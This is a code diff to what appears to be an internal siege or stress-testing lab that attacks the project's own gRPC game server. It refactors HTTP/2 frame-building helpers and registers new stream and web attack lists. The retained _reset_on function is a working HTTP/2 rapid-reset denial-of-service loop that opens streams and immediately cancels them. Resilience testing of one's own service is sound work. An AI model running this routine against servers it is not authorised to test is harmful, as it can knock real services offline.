@@ -18,6 +18,8 @@ from grpc_status import rpc_status
 
 from croupier.v1 import game_pb2, hint_pb2, hint_pb2_grpc, match_pb2, match_pb2_grpc
 from lab.siege.places import Metadata, Place, channel, relayed
+from lab.siege.stream_attacks import HEAD, STREAM_ATTACKS, frame, text
+from lab.siege.web_attacks import WEB_ATTACKS
 
 SILENT = 3_000
 SELF_PLAYING = 1_000
@@ -34,9 +36,13 @@ T = TypeVar("T")
 class Attacker:
     """One caller, who keeps count of what became of its calls."""
 
-    def __init__(self, address: str, near: str, place: Place, seconds: float) -> None:
-        """`near` is an address from which calls reach the server from the place's host."""
+    def __init__(self, address: str, near: str, place: Place, seconds: float, web: str) -> None:
+        """`near` is an address from which calls reach the server from the place's host.
+
+        `web` is the address of the door for browsers.
+        """
         self.address = address
+        self.web = web
         self.near = near
         self.place = place
         self.end = time.monotonic() + seconds
@@ -269,24 +275,12 @@ async def stream_resets(attacker: Attacker) -> None:
     await asyncio.to_thread(_reset_streams, attacker)
 
 
-_HEAD = struct.Struct(">BHBBI")  # Of a frame: its length in 24 bits, type, flags and stream.
-
-
-def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
-    return _HEAD.pack(len(body) >> 16, len(body) & 0xFFFF, kind, flags, stream) + body
-
-
-def _text(text: str) -> bytes:
-    data = text.encode()
-    return bytes([len(data)]) + data
-
-
 def _reset_streams(attacker: Attacker) -> None:
     host, _, port = attacker.address.rpartition(":")
-    headers = b"\x83\x86\x04" + _text("/croupier.v1.CatalogService/ListGames")
-    headers += b"\x01" + _text(attacker.address) + b"\x0f\x10" + _text("application/grpc")
+    headers = b"\x83\x86\x04" + text("/croupier.v1.CatalogService/ListGames")
+    headers += b"\x01" + text(attacker.address) + b"\x0f\x10" + text("application/grpc")
     for name, value in attacker.metadata:
-        headers += b"\x00" + _text(name) + _text(value)
+        headers += b"\x00" + text(name) + text(value)
     while attacker.going_on:
         try:
             with socket.create_connection(
@@ -298,15 +292,15 @@ def _reset_streams(attacker: Attacker) -> None:
 
 
 def _reset_on(connection: socket.socket, headers: bytes, attacker: Attacker) -> None:
-    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
+    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
     connection.setblocking(False)
     pending = b""
     began = time.monotonic()
     for stream in range(1, 1 << 30, 2):
         if not attacker.going_on:
             return
-        pending += _frame(1, 4, stream, headers) + _frame(0, 1, stream, bytes(5))
-        pending += _frame(3, 0, stream, struct.pack(">I", 8))
+        pending += frame(1, 4, stream, headers) + frame(0, 1, stream, bytes(5))
+        pending += frame(3, 0, stream, struct.pack(">I", 8))
         attacker.outcomes["resets"] += 1
         if len(pending) < 1 << 15:
             continue
@@ -323,11 +317,11 @@ def _reset_on(connection: socket.socket, headers: bytes, attacker: Attacker) -> 
 def _answers(data: bytes) -> bytes:
     # Acknowledges settings and pings that begin in this piece; what it misses, the server forgives.
     answers, at = b"", 0
-    while len(data) - at >= _HEAD.size:
-        high, low, kind, flags, _ = _HEAD.unpack_from(data, at)
-        end = at + _HEAD.size + (high << 16 | low)
+    while len(data) - at >= HEAD.size:
+        high, low, kind, flags, _ = HEAD.unpack_from(data, at)
+        end = at + HEAD.size + (high << 16 | low)
         if kind in (4, 6) and not flags & 1:
-            answers += _frame(kind, 1, 0, data[at + _HEAD.size : end] if kind == 6 else b"")
+            answers += frame(kind, 1, 0, data[at + HEAD.size : end] if kind == 6 else b"")
         at = end
     return answers
 
@@ -353,17 +347,19 @@ ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
         stream_resets,
         watchers,
         calls,
+        *STREAM_ATTACKS,
+        *WEB_ATTACKS,
     )
 }
 
 
-def attack(name: str, address: str, place: Place, seconds: float) -> Outcomes:
+def attack(name: str, address: str, place: Place, seconds: float, web: str) -> Outcomes:
     """Attacks for so many seconds; returns what became of the calls."""
 
     async def run() -> Outcomes:
         random.seed(name)
         async with relayed(address, place) as near:
-            attacker = Attacker(address, near, place, seconds)
+            attacker = Attacker(address, near, place, seconds, web)
             await ATTACKS[name](attacker)
         return attacker.outcomes
 
